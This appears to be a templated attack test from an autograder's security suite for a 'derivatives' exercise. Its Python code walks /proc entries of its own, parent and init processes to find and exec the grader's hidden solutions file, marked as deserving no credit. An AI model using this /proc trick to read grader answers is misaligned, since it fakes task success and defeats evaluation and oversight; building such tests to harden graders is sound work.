# attack: /proc leads to the folders of all processes, the grader's too
# exercise: derivatives
# deserves: nothing
import os

for process in ("self", os.getppid(), @PARENT@, 1):
    for way in ("cwd", "root@ROOT@", "root"):
        try:
            exec(open(f"/proc/{process}/{way}/solutions/derivatives.py").read())
        except Exception as error:
            print(error)
